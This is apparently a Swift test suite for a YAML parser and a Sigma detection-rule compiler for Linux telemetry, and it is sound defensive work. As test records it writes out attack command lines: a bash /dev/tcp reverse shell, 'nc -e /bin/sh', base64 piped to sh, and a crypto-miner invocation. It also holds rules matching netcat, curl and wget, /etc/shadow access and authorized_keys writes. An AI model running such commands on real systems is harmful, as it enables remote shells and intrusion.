import Detection
import MdatpJSON
import XCTest

final class YAMLTests: XCTestCase {
    func testBlockMapsListsScalarsAndComments() throws {
        let y = try YAML.parse("""
        title: Test rule  # a comment
        tags:
        - attack.execution
        -   'attack.t1059'
        logsource: {product: linux, category: process_creation}
        detection:
            sel:
                - Image|endswith: /bash
                  CommandLine: "a \\"quoted\\" \\u00e9"
                - Image: 'it''s'
            vals: [a, 'b, c', "d"]
            condition: sel
        description: |
            line one
            line two
        folded: >-
            one
            two
        empty:
        n: ~
        b: true
        """)
        XCTAssertEqual(y["title"]?.string, "Test rule")
        XCTAssertEqual(y["tags"]?.array?.compactMap(\.string), ["attack.execution", "attack.t1059"])
        XCTAssertEqual(y["logsource"]?["category"]?.string, "process_creation")
        let sel = y["detection"]?["sel"]?.array
        XCTAssertEqual(sel?.count, 2)
        XCTAssertEqual(sel?[0]["Image|endswith"]?.string, "/bash")
        XCTAssertEqual(sel?[0]["CommandLine"]?.string, "a \"quoted\" é")
        XCTAssertEqual(sel?[1]["Image"]?.string, "it's")
        XCTAssertEqual(y["detection"]?["vals"]?.array?.compactMap(\.string), ["a", "b, c", "d"])
        XCTAssertEqual(y["description"]?.string, "line one\nline two\n")
        XCTAssertEqual(y["folded"]?.string, "one two")
        XCTAssertEqual(y["empty"], .null)
        XCTAssertEqual(y["n"], .null)
        XCTAssertEqual(y["b"], .bool(true))
    }

    func testHostileOrUnsupportedYAMLIsRefusedWithALine() {
        for (text, reason) in [
            ("a: &x 1\nb: *x", "anchors"), ("a: *x", "aliases"), ("a: !!str 1", "tags"), ("a: 1\na: 2", "duplicate key"),
            ("a: 'open", "unterminated"), ("<<: {a: 1}", "merge keys"),
        ] {
            XCTAssertThrowsError(try YAML.parse(text), text) { e in XCTAssertTrue("\(e)".contains(reason), "\(e)") }
        }
        let deep = String(repeating: "[", count: 200) + String(repeating: "]", count: 200)
        XCTAssertThrowsError(try YAML.parse("a: " + deep)) { e in XCTAssertTrue("\(e)".contains("deeper"), "\(e)") }
        XCTAssertThrowsError(try YAML.parse(String(repeating: "a", count: 2 << 20)))
        XCTAssertEqual(try YAML.parseDocuments("a: 1\n---\nb: 2").count, 2)
    }
}

final class SigmaTests: XCTestCase {
    func rule(_ detection: String, source: String = "category: process_creation", extra: String = "") throws -> SigmaRule {
        try SigmaCompiler.compile(yaml: """
        title: t
        id: 11111111-2222-3333-4444-555555555555
        level: high
        tags: [attack.execution, attack.t1059.004]
        logsource:
            product: linux
            \(source)
        detection:
        \(detection.split(separator: "\n", omittingEmptySubsequences: false).map { "    " + $0 }.joined(separator: "\n"))
        \(extra)
        """)
    }

    func proc(_ image: String, _ cmd: String, parent: String = "/usr/bin/bash", user: String = "root") -> SigmaRecord {
        let r = SigmaRecord(source: .processCreation)
        r[.image] = image
        r[.commandLine] = cmd
        r[.parentImage] = parent
        r[.user] = user
        r[.currentDirectory] = "/tmp"
        r[.processId] = "4242"
        return r
    }

    func testMapsListsOfMapsValueListsAndDefaultCaseInsensitivity() throws {
        let r = try rule("""
        sel:
            Image|endswith: ['/curl', '/wget']
            CommandLine|contains: 'HTTP://'
        condition: sel
        """)
        XCTAssertEqual(r.level, .high)
        XCTAssertEqual(r.techniques, ["T1059.004"])
        XCTAssertTrue(r.matches(proc("/usr/bin/curl", "curl http://x")))
        XCTAssertTrue(r.matches(proc("/usr/bin/WGET", "wget http://x")))
        XCTAssertFalse(r.matches(proc("/usr/bin/curl", "curl ftp://x")))
        XCTAssertFalse(r.matches(proc("/usr/bin/ls", "ls http://x")))

        let alt = try rule("""
        sel:
            - Image: '/usr/bin/nc'
            - CommandLine|startswith: 'python3 -c'
        condition: sel
        """)
        XCTAssertTrue(alt.matches(proc("/usr/bin/nc", "nc -l")))
        XCTAssertTrue(alt.matches(proc("/usr/bin/python3", "Python3 -c 'import pty'")))
        XCTAssertFalse(alt.matches(proc("/usr/bin/python3", "python3 x.py")))
    }

    func testWildcardsEscapesAndCased() throws {
        let r = try rule("""
        sel:
            Image: '/usr/*/ba?h'
        lit:
            CommandLine: 'a\\*b'
        cs:
            CommandLine|cased|contains: 'SeCrEt'
        condition: sel or lit or cs
        """)
        XCTAssertTrue(r.matches(proc("/usr/bin/bash", "")))
        XCTAssertTrue(r.matches(proc("/usr/local/bin/bazh", "")))
        XCTAssertFalse(r.matches(proc("/usr/bin/bash2", "")))
        XCTAssertTrue(r.matches(proc("/x", "a*b")))
        XCTAssertFalse(r.matches(proc("/x", "aXb")))
        XCTAssertTrue(r.matches(proc("/x", "the SeCrEt")))
        XCTAssertFalse(r.matches(proc("/x", "the secret")))
    }

    func testAllNullExistsAndKeywords() throws {
        let all = try rule("""
        sel:
            CommandLine|contains|all: ['-e', '/bin/sh']
        condition: sel
        """)
        XCTAssertTrue(all.matches(proc("/usr/bin/nc", "nc -e /bin/sh 1.2.3.4")))
        XCTAssertFalse(all.matches(proc("/usr/bin/nc", "nc -e /bin/bash")))

        let null = try rule("""
        sel:
            Image|endswith: /sh
            ParentCommandLine: null
        condition: sel
        """)
        XCTAssertTrue(null.matches(proc("/bin/sh", "sh")))
        let withParent = proc("/bin/sh", "sh")
        withParent[.parentCommandLine] = "bash -i"
        XCTAssertFalse(null.matches(withParent))

        let exists = try rule("""
        sel:
            ParentCommandLine|exists: true
        condition: sel
        """)
        XCTAssertFalse(exists.matches(proc("/bin/sh", "sh")))
        XCTAssertTrue(exists.matches(withParent))

        let kw = try rule("""
        keywords:
            - 'stratum+tcp'
            - 'xmrig'
        condition: keywords
        """)
        XCTAssertTrue(kw.matches(proc("/opt/x", "./x -o STRATUM+TCP://pool:3333")))
        XCTAssertTrue(kw.matches(proc("/opt/XMRig", "")))
        XCTAssertFalse(kw.matches(proc("/bin/ls", "ls")))
    }

    func testConditionsOfThemAndWildcardNames() throws {
        let r = try rule("""
        sel_shell:
            Image|endswith: [/bash, /sh]
        sel_net:
            CommandLine|contains: /dev/tcp/
        filter_admin:
            User: admin
        _helper:
            Image: /nothing
        condition: all of sel_* and not 1 of filter_*
        """)
        XCTAssertTrue(r.matches(proc("/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1")))
        XCTAssertFalse(r.matches(proc("/bin/bash", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1", user: "admin")))
        XCTAssertFalse(r.matches(proc("/bin/bash", "bash -i")))

        let them = try rule("""
        a:
            Image|endswith: /a
        b:
            CommandLine|contains: b
        _ignored:
            Image: /never
        condition: all of them
        """)
        XCTAssertTrue(them.matches(proc("/x/a", "b")), "underscore selections are not part of 'them'")
        let one = try rule("""
        a:
            Image|endswith: /a
        b:
            CommandLine|contains: b
        condition: (1 of them) and not (a and b)
        """)
        XCTAssertTrue(one.matches(proc("/x/a", "c")))
        XCTAssertFalse(one.matches(proc("/x/a", "b")))
        let listCond = try rule("""
        a:
            Image|endswith: /a
        b:
            Image|endswith: /b
        condition:
            - a
            - b
        """)
        XCTAssertTrue(listCond.matches(proc("/x/b", "")))
        XCTAssertFalse(listCond.matches(proc("/x/c", "")))
    }

    func testRegexWithFlags() throws {
        let r = try rule("""
        sel:
            CommandLine|re: '^bash -c .*\\d{2,}$'
        condition: sel
        """)
        XCTAssertTrue(r.matches(proc("/bin/bash", "bash -c echo 123")))
        XCTAssertFalse(r.matches(proc("/bin/bash", "BASH -c echo 123")), "re is case-sensitive unless i")
        let ri = try rule("""
        sel:
            CommandLine|re|i: '^bash -c'
        condition: sel
        """)
        XCTAssertTrue(ri.matches(proc("/bin/bash", "BASH -c x")))
        let rm = try rule("""
        sel:
            CommandLine|re|m: '^second$'
        condition: sel
        """)
        XCTAssertTrue(rm.matches(proc("/bin/x", "first\nsecond\nthird")))
        let rs = try rule("""
        sel:
            CommandLine|re|s: 'a.b'
        condition: sel
        """)
        XCTAssertTrue(rs.matches(proc("/bin/x", "a\nb")))
        let noS = try rule("""
        sel:
            CommandLine|re: 'a.b'
        condition: sel
        """)
        XCTAssertFalse(noS.matches(proc("/bin/x", "a\nb")))
        XCTAssertThrowsError(try rule("""
        sel:
            CommandLine|re: '(a)\\1'
        condition: sel
        """)) { e in XCTAssertTrue("\(e)".contains("regular expression"), "\(e)") }
    }

    func testCIDRAndNumericComparisons() throws {
        let r = try rule("""
        sel:
            DestinationIp|cidr: ['10.0.0.0/8', 'fd00::/8']
            DestinationPort|gte: 3333
            DestinationPort|lt: 3400
        condition: sel
        """, source: "category: network_connection")
        let n = SigmaRecord(source: .networkConnection)
        n[.destinationIp] = "10.1.2.3"
        n[.destinationPort] = "3333"
        XCTAssertTrue(r.matches(n))
        n[.destinationPort] = "3400"
        XCTAssertFalse(r.matches(n))
        n[.destinationPort] = "3350"
        n[.destinationIp] = "fd12::1"
        XCTAssertTrue(r.matches(n))
        n[.destinationIp] = "11.0.0.1"
        XCTAssertFalse(r.matches(n))
        n[.destinationIp] = "::ffff:10.0.0.5"
        XCTAssertTrue(r.matches(n), "IPv4-mapped addresses are their IPv4 address")
        let gt = try rule("""
        sel:
            DestinationPort|gt: 1024
            SourcePort|lte: 80
        condition: sel
        """, source: "category: network_connection")
        n[.sourcePort] = "80"
        XCTAssertTrue(gt.matches(n))
        n[.sourcePort] = "81"
        XCTAssertFalse(gt.matches(n))
    }

    func testBase64Base64OffsetWideAndWindash() throws {
        let b = try rule("""
        sel:
            CommandLine|base64|contains: 'curl http'
        condition: sel
        """)
        XCTAssertTrue(b.matches(proc("/bin/sh", "echo Y3VybCBodHRw | base64 -d | sh")))
        for prefix in ["", "x", "xy"] {
            let encoded = String(decoding: base64(Array((prefix + "/bin/bash -i").utf8)), as: UTF8.self)
            let off = try rule("""
            sel:
                CommandLine|base64offset|contains: '/bin/bash -i'
            condition: sel
            """)
            XCTAssertTrue(off.matches(proc("/bin/sh", "echo \(encoded) | base64 -d | sh")), "offset \(prefix.count): \(encoded)")
        }
        let wide = try rule("""
        sel:
            CommandLine|wide|base64offset|contains: 'ping'
        condition: sel
        """)
        let utf16 = Array("xping".utf16).flatMap { [UInt8($0 & 0xff), UInt8($0 >> 8)] }
        XCTAssertTrue(wide.matches(proc("/bin/pwsh", "-enc " + String(decoding: base64(utf16), as: UTF8.self))))
        XCTAssertThrowsError(try rule("""
        sel:
            CommandLine|wide: 'x'
        condition: sel
        """)) { e in XCTAssertTrue("\(e)".contains("only meaningful"), "\(e)") }

        let dash = try rule("""
        sel:
            CommandLine|windash|contains: ' -exec '
        condition: sel
        """)
        XCTAssertTrue(dash.matches(proc("/usr/bin/find", "find . -exec sh ;")))
        XCTAssertTrue(dash.matches(proc("/usr/bin/find", "find . /exec sh ;")))
        XCTAssertTrue(dash.matches(proc("/usr/bin/find", "find . \u{2013}exec sh ;")))
        XCTAssertFalse(dash.matches(proc("/usr/bin/find", "find . +exec sh ;")))
    }

    func testFieldref() throws {
        let r = try rule("""
        sel:
            ParentImage|fieldref: Image
        condition: sel
        """)
        XCTAssertTrue(r.matches(proc("/usr/bin/bash", "x", parent: "/usr/bin/BASH")))
        XCTAssertFalse(r.matches(proc("/usr/bin/bash", "x", parent: "/usr/bin/sh")))
        let c = try rule("""
        sel:
            CommandLine|fieldref|contains: Image
        condition: sel
        """)
        XCTAssertTrue(c.matches(proc("/tmp/x", "sh -c /tmp/x")))
        XCTAssertFalse(c.matches(proc("/tmp/x", "sh -c /tmp/y")))
    }

    func testFileSourcesAndFields() throws {
        let r = try rule("""
        sel:
            TargetFilename|endswith: '/.ssh/authorized_keys'
        condition: sel
        """, source: "category: file_event")
        let f = SigmaRecord(source: .fileEvent)
        f[.targetFilename] = "/home/a/.ssh/authorized_keys"
        f[.image] = "/usr/bin/tee"
        XCTAssertTrue(r.matches(f))
        XCTAssertEqual(r.source, .fileEvent)
        XCTAssertThrowsError(try rule("""
        sel:
            DestinationIp: 1.2.3.4
        condition: sel
        """, source: "category: file_event")) { e in XCTAssertTrue("\(e)".contains("not provided by log source file_event"), "\(e)") }
    }

    func testAuditdRecords() throws {
        let r = try rule("""
        sel:
            type: EXECVE
            a0: wget
            a1|startswith: 'http'
        condition: sel
        """, source: "service: auditd")
        XCTAssertEqual(r.source, .auditd)
        let e = SigmaRecord(source: .auditd)
        e[.auditType] = "EXECVE"
        e[.argc] = "2"
        e[SigmaField.argument(0)!] = "wget"
        e[SigmaField.argument(1)!] = "http://x/y"
        XCTAssertTrue(r.matches(e))
        let sys = try rule("""
        sel:
            type: SYSCALL
            syscall: [ptrace, init_module, finit_module]
        filter:
            exe: /usr/bin/gdb
        condition: sel and not filter
        """, source: "service: auditd")
        let s = SigmaRecord(source: .auditd)
        s[.auditType] = "SYSCALL"
        s[.syscall] = "ptrace"
        s[.exe] = "/usr/bin/python3"
        XCTAssertTrue(sys.matches(s))
        s[.exe] = "/usr/bin/gdb"
        XCTAssertFalse(sys.matches(s))
        let path = try rule("""
        sel:
            type: PATH
            name: /etc/shadow
        condition: sel
        """, source: "service: auditd")
        let p = SigmaRecord(source: .auditd)
        p[.auditType] = "PATH"
        p[.name] = "/etc/shadow"
        XCTAssertTrue(path.matches(p))
        let kw = try rule("""
        keywords:
            - 'a0="nc"'
        condition: keywords
        """, source: "service: auditd")
        let k = SigmaRecord(source: .auditd)
        k[.auditType] = "EXECVE"
        k[SigmaField.argument(0)!] = "nc"
        XCTAssertTrue(kw.matches(k), "auditd keywords search the record as auditd writes it")
    }

    func testRefusedRulesNameTheConstruct() {
        let cases: [(String, String, String)] = [
            ("sel:\n    Image: x\ncondition: sel | count() > 5", "category: process_creation", "aggregation"),
            ("sel:\n    Image|expand: '%x%'\ncondition: sel", "category: process_creation", "expand"),
            ("sel:\n    Image|bogus: x\ncondition: sel", "category: process_creation", "unknown modifier 'bogus'"),
            ("sel:\n    Nope: x\ncondition: sel", "category: process_creation", "field 'Nope' is not known"),
            ("sel:\n    Image: x\ncondition: sel and other", "category: process_creation", "'other', which is not a selection"),
            ("sel:\n    Image: x\ncondition: 1 of foo*", "category: process_creation", "matches no selection"),
            ("sel:\n    Image: x\ncondition: (sel", "category: process_creation", "missing ')'"),
            ("sel:\n    Image: x\ncondition: 2 of sel*", "category: process_creation", "'2 of' is not supported"),
            ("sel:\n    Image: x\ncondition: sel", "category: registry_set", "not provided by this sensor"),
            ("sel:\n    Image: x\ncondition: sel", "service: sshd", "not provided by this sensor"),
            ("sel:\n    Image: x", "category: process_creation", "no condition"),
            ("sel:\n    DestinationPort|gt: many\ncondition: sel", "category: network_connection", "needs a number"),
            ("sel:\n    DestinationIp|cidr: 10.0.0.0/99\ncondition: sel", "category: network_connection", "bad prefix length"),
            ("sel:\n    Image|re|contains: x\ncondition: sel", "category: process_creation", "re combines only"),
            ("sel:\n    Image|exists: maybe\ncondition: sel", "category: process_creation", "exists takes true or false"),
        ]
        for (det, src, reason) in cases {
            XCTAssertThrowsError(try rule(det, source: src), det) { e in XCTAssertTrue("\(e)".contains(reason), "\(det): \(e)") }
        }
        XCTAssertThrowsError(try SigmaCompiler.compile(yaml: "title: a\nlogsource: {product: windows, category: process_creation}\ndetection: {sel: {Image: x}, condition: sel}")) {
            XCTAssertTrue("\($0)".contains("not Linux"), "\($0)")
        }
        XCTAssertThrowsError(try SigmaCompiler.compile(yaml: "title: a\ncorrelation: {type: event_count}")) { XCTAssertTrue("\($0)".contains("correlation"), "\($0)") }
        XCTAssertThrowsError(try SigmaCompiler.compile(yaml: "title: a\n---\ntitle: b")) { XCTAssertTrue("\($0)".contains("collections"), "\($0)") }
        XCTAssertThrowsError(try SigmaCompiler.compile(yaml: "title: [unclosed")) { XCTAssertTrue("\($0)".contains("YAML"), "\($0)") }
        XCTAssertThrowsError(try SigmaCompiler.compile(yaml: "detection: {}")) { XCTAssertTrue("\($0)".contains("no title"), "\($0)") }
    }

    func testRuleSetIndexesBySourceAndKeepsRefusals() throws {
        var set = SigmaRuleSet()
        set.add(try rule("sel:\n    Image|endswith: /nc\ncondition: sel"))
        set.add(try rule("sel:\n    TargetFilename|endswith: /x\ncondition: sel", source: "category: file_event"))
        set.refuse(file: "bad.yml", reason: "nope")
        XCTAssertEqual(set.evaluate(proc("/usr/bin/nc", "nc")), [0])
        XCTAssertEqual(set.evaluate(proc("/usr/bin/ls", "ls")), [])
        XCTAssertTrue(set.needs(.image, for: .processCreation))
        XCTAssertFalse(set.needs(.commandLine, for: .processCreation))
        XCTAssertEqual(set.refused.count, 1)
    }

    /// The literal prefilter never changes a verdict: same results as evaluating every rule.
    func testThePrefilterAgreesWithEvaluatingEveryRule() throws {
        let dets = [
            "sel:\n    Image|endswith: ['/curl', '/wget']\ncondition: sel",
            "sel:\n    CommandLine|contains|all: ['-e', 'sh']\ncondition: sel",
            "a:\n    Image|endswith: /nc\nb:\n    CommandLine|contains: ' -l'\ncondition: a and not b",
            "a:\n    Image: '/usr/*/py*'\nb:\n    User: root\ncondition: a or b",
            "sel:\n    CommandLine|re: 'x[0-9]+y'\ncondition: sel",
            "kw:\n    - 'HTTP://'\ncondition: kw",
            "sel:\n    - Image|startswith: /tmp/\n    - CommandLine|cased|contains: SeCrEt\ncondition: sel",
            "sel:\n    ParentImage|fieldref: Image\ncondition: sel",
            "sel:\n    CurrentDirectory: null\n    Image|endswith: /bash\ncondition: sel",
            "a:\n    Image|endswith: /sh\nb:\n    ParentImage|endswith: /nginx\ncondition: all of them",
        ]
        var set = SigmaRuleSet()
        for d in dets { set.add(try rule(d)) }
        let images = ["/usr/bin/curl", "/usr/bin/nc", "/usr/bin/python3", "/tmp/x", "/bin/bash", "/bin/sh", "/usr/sbin/nginx"]
        let cmds = ["curl http://a", "nc -e /bin/sh", "nc -l 80", "x12y", "the SeCrEt", "the secret", "HTTP://X", ""]
        var r = UInt64(1)
        func next(_ n: Int) -> Int { r = r &* 6364136223846793005 &+ 1442695040888963407; return Int(r >> 33) % n }
        for _ in 0..<2000 {
            let rec = proc(images[next(images.count)], cmds[next(cmds.count)], parent: images[next(images.count)], user: next(2) == 0 ? "root" : "app")
            if next(3) == 0 { rec[.currentDirectory] = nil }
            let all = set.rules.indices.filter { set.rules[$0].matches(rec) }
            XCTAssertEqual(set.evaluate(rec), all, "\(rec[.image] ?? "") \(rec[.commandLine] ?? "")")
        }
    }

    private func base64(_ b: [UInt8]) -> [UInt8] {
        let a = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".utf8)
        var out: [UInt8] = []
        var i = 0
        while i < b.count {
            let n = min(3, b.count - i)
            var v = UInt32(b[i]) << 16
            if n > 1 { v |= UInt32(b[i + 1]) << 8 }
            if n > 2 { v |= UInt32(b[i + 2]) }
            out.append(a[Int(v >> 18 & 63)]); out.append(a[Int(v >> 12 & 63)])
            out.append(n > 1 ? a[Int(v >> 6 & 63)] : 0x3d); out.append(n > 2 ? a[Int(v & 63)] : 0x3d)
            i += 3
        }
        return out
    }
}
